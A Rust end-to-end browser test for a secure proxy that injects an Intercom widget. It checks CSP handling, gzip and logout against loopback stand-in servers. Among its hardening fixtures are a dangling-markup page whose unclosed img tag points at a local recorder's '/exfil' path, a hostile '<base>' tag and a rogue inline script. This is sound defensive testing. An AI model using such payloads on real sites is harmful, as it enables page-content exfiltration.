//! Proves it in a real browser: starts the demo stack, a CSP/gzip test app and the real
//! Express + Redis app, each behind the proxy, with a stand-in Intercom on loopback; then
//! drives Debian's Chromium through tests/browser/e2e.mjs (playwright-core). The scenarios
//! and their assertions live there; this file owns the servers.
#![cfg(feature = "server")]

mod common;

use std::io::Write;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

use bytes::Bytes;
use common::*;
use http::Response;
use intercom_secure_proxy::demo::{DemoAddrs, DemoApp, StandInIntercom, demo_config};
use serde_json::json;
use tokio::net::TcpListener;

const CHROMIUM: &str = "/usr/bin/chromium";

fn browser_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser")
}

/// The app script every CSP page runs, and its CSP hash.
const APP_SCRIPT: &str = "window.appRan=true;";

fn app_script_hash() -> String {
    use base64::Engine;
    use sha2::Digest;
    format!(
        "'sha256-{}'",
        base64::engine::general_purpose::STANDARD
            .encode(sha2::Sha256::digest(APP_SCRIPT.as_bytes()))
    )
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// A `<meta>` CSP written with character references, as templating engines escape `'`: the
/// app's script by its hash, no inline style, no `<base>`.
fn entity_meta_policy() -> String {
    let hash = app_script_hash().replace('\'', "");
    format!(
        "script-src &#39;self&#39; &#x27;{hash}&#x27;; style-src &apos;none&apos;; base-uri &#39;none&#39;"
    )
}

/// The hardening pages (the paths e2e.mjs asks for): the policy above with an inline style,
/// a `<base>` and an inline script the policy refuses; a page ending inside an open attribute
/// that points at `recorder`; a page whose title says "intercomSettings".
fn hardening_page(path: &str, recorder: SocketAddr) -> Option<String> {
    Some(match path {
        "/hardening/entity-meta" => format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\">\
<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">\
<base href=\"http://{recorder}/based/\"><style>h1{{color:rgb(255, 0, 0)}}</style>\
<title>entity meta</title><script>{APP_SCRIPT}</script><script>window.rogue=true;</script></head>\
<body><h1>entity meta</h1><a id=\"relative\" href=\"next\">next</a></body></html>",
            entity_meta_policy()
        ),
        "/hardening/open-attribute" => format!(
            "<!DOCTYPE html><title>open attribute</title><p>hello<img src='http://{recorder}/exfil?x="
        ),
        "/hardening/title-marker" => format!(
            "<!DOCTYPE html><html><head><title>intercomSettings: how to boot</title>\
<script>{APP_SCRIPT}</script></head><body><h1>docs</h1></body></html>"
        ),
        _ => return None,
    })
}

/// Records the path and query of every request it gets; `/log` answers them as JSON.
async fn recorder() -> Upstream {
    let seen = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    upstream(move |req| {
        let seen = seen.clone();
        async move {
            let uri = req.uri().to_string();
            if req.uri().path() == "/log" {
                let log = serde_json::to_string(&*seen.lock().unwrap()).unwrap();
                let mut r = Response::new(full(log));
                let h = r.headers_mut();
                h.insert("content-type", "application/json".parse().unwrap());
                h.insert("access-control-allow-origin", "*".parse().unwrap());
                return r;
            }
            seen.lock().unwrap().push(uri);
            Response::new(full(""))
        }
    })
    .await
}

/// Pages under a strict CSP (nonce with 'strict-dynamic', or hashes; as header or meta), a
/// gzip page, an HTML logout page, an SPA whose logout is a fetch, and the hardening pages.
async fn csp_app(recorder: SocketAddr) -> Upstream {
    upstream(move |req| async move {
        let path = req.uri().path().to_string();
        if let Some(page) = hardening_page(&path, recorder) {
            let mut r = Response::new(full(page));
            r.headers_mut()
                .insert("content-type", "text/html; charset=utf-8".parse().unwrap());
            return r;
        }
        let hash = app_script_hash();
        let nonce_policy = "script-src 'nonce-r4nd0m' 'strict-dynamic'; object-src 'none'; base-uri 'self'";
        let hash_policy = format!("default-src 'self'; script-src 'self' {hash}");
        let (header, meta, script_tag) = match path.as_str() {
            "/csp/nonce-header" => (Some(nonce_policy.to_string()), None, "<script nonce=\"r4nd0m\">"),
            "/csp/hash-header" => (Some(hash_policy), None, "<script>"),
            "/csp/nonce-meta" => (None, Some(nonce_policy.to_string()), "<script nonce=\"r4nd0m\">"),
            "/csp/hash-meta" => (None, Some(hash_policy), "<script>"),
            _ => (None, None, "<script>"),
        };
        let meta = meta
            .map(|p| format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{p}\">"))
            .unwrap_or_default();
        let page = format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\">{meta}<title>{path}</title>{script_tag}{APP_SCRIPT}</script></head>\
<body><h1>{path}</h1></body></html>"
        );
        let mut r = match path.as_str() {
            "/gzip" => {
                let mut r = Response::new(full(Bytes::from(gzip(page.as_bytes()))));
                r.headers_mut().insert("content-encoding", "gzip".parse().unwrap());
                r
            }
            "/api/logout" => {
                let mut r = Response::new(full("{\"ok\":true}"));
                r.headers_mut().insert("content-type", "application/json".parse().unwrap());
                r.headers_mut().insert("set-cookie", "session=; Path=/; Max-Age=0".parse().unwrap());
                return r;
            }
            "/logout-page" => {
                let mut r = Response::new(full(page));
                r.headers_mut().insert("set-cookie", "session=; Path=/; Max-Age=0".parse().unwrap());
                r
            }
            _ => Response::new(full(page)),
        };
        r.headers_mut().insert("content-type", "text/html; charset=utf-8".parse().unwrap());
        if let Some(policy) = header {
            r.headers_mut().insert("content-security-policy", policy.parse().unwrap());
        }
        r
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn chromium_end_to_end() {
    if !Path::new(CHROMIUM).exists() {
        assert!(
            std::env::var_os("CI").is_none(),
            "{CHROMIUM} is missing: .ci/run installs Debian's chromium"
        );
        eprintln!("skipped: no {CHROMIUM} (apt-get install chromium)");
        return;
    }
    if !npm_ci(&browser_dir()) {
        assert!(
            std::env::var_os("CI").is_none(),
            "npm ci failed in tests/browser"
        );
        eprintln!("skipped: npm ci failed in tests/browser");
        return;
    }

    // The stand-in Intercom, shared by every stack.
    let widget_listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let widget: SocketAddr = widget_listener.local_addr().unwrap();
    let intercom = Arc::new(StandInIntercom::new(
        "testapp1",
        MESSENGER_SECRET.as_bytes(),
    ));
    let _widget_task = tokio::spawn(intercom.serve(widget_listener));
    let demo_intercom = Arc::new(StandInIntercom::new(
        "demo1234",
        MESSENGER_SECRET.as_bytes(),
    ));
    let demo_widget_listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let demo_widget = demo_widget_listener.local_addr().unwrap();
    let _demo_widget_task = tokio::spawn(demo_intercom.serve(demo_widget_listener));
    let widget_key = format!(
        "secret_env = \"TEST_MESSENGER_SECRET\"\nwidget_url = \"http://{widget}/widget/testapp1\""
    );

    // 1. The demo: its legacy app behind the proxy, exactly as `demo` runs it.
    let app_listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let app_addr = app_listener.local_addr().unwrap();
    let _app_task =
        tokio::spawn(Arc::new(DemoApp::new(SESSION_SECRET.as_bytes())).serve(app_listener));
    let demo = demo_config(
        &DemoAddrs {
            app: app_addr,
            widget: demo_widget,
        },
        "127.0.0.1:0".parse().unwrap(),
        SESSION_SECRET,
        MESSENGER_SECRET,
    )
    .unwrap();
    let demo_server = intercom_secure_proxy::bind(&demo).await.unwrap();
    let demo_addr = demo_server.local_addrs()[0];
    let _demo_task = tokio::spawn(demo_server.serve(std::future::pending()));

    // 2. CSP, gzip and logout pages, with a short token_ttl for the refresh scenario.
    let recorder = recorder().await;
    let csp = csp_app(recorder.addr).await;
    let csp_config = config_text(
        &format!("http://{}", csp.addr),
        "",
        "\n[logout]\npaths = [\"/logout-page\"]\n",
    )
    .replace(
        "secret_env = \"TEST_MESSENGER_SECRET\"",
        &format!("{widget_key}\ntoken_ttl = \"10s\""),
    );
    let csp_proxy = proxy_with(&csp_config).await;
    let csp_session =
        session_jwt(json!({"sub": "u-csp", "email": "csp@example.com", "exp": now_secs() + 3600}));

    // 3. The real Express + Redis app.
    let redis_url = store_url("REDIS_URL", "redis://127.0.0.1:6379/0", "Redis").await;
    let mut express_guard = None;
    let mut express_url = String::new();
    if let Some(redis_url) = &redis_url {
        let prefix = format!("{}:", unique_name("browser"));
        if let Some(app) = start_express(redis_url, &prefix, "browser-test-cookie-secret") {
            let port = app.port;
            let session = format!(
                "{}[logout]\npaths = [\"/logout\"]\n",
                express_session(redis_url, &prefix, "browser-test-cookie-secret", "")
            );
            let config = config_with_session(&format!("http://127.0.0.1:{port}"), &session)
                .replace("secret_env = \"TEST_MESSENGER_SECRET\"", &widget_key);
            let proxy = proxy_with(&config).await;
            express_url = proxy.url("");
            express_guard = Some((app, proxy));
        }
    }

    let screenshots = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/browser-screenshots");
    std::fs::create_dir_all(&screenshots).unwrap();
    let setup = json!({
        "chromium": CHROMIUM,
        "messengerSecret": MESSENGER_SECRET,
        "demo": format!("http://{demo_addr}"),
        "csp": csp_proxy.url(""),
        "cspUpstream": format!("http://{}", csp.addr),
        "cspSession": csp_session,
        "recorder": format!("http://{}", recorder.addr),
        "express": express_url,
        "screenshots": screenshots,
    });
    let run = tokio::task::spawn_blocking(move || {
        Command::new("node")
            .arg("e2e.mjs")
            .current_dir(browser_dir())
            .env("E2E_SETUP", setup.to_string())
            .output()
            .expect("node runs")
    })
    .await
    .unwrap();
    let stdout = String::from_utf8_lossy(&run.stdout);
    println!("{stdout}");
    eprintln!("{}", String::from_utf8_lossy(&run.stderr));
    println!("screenshots: {}", screenshots.display());
    assert!(run.status.success(), "browser scenarios failed:\n{stdout}");
    drop(express_guard);
}
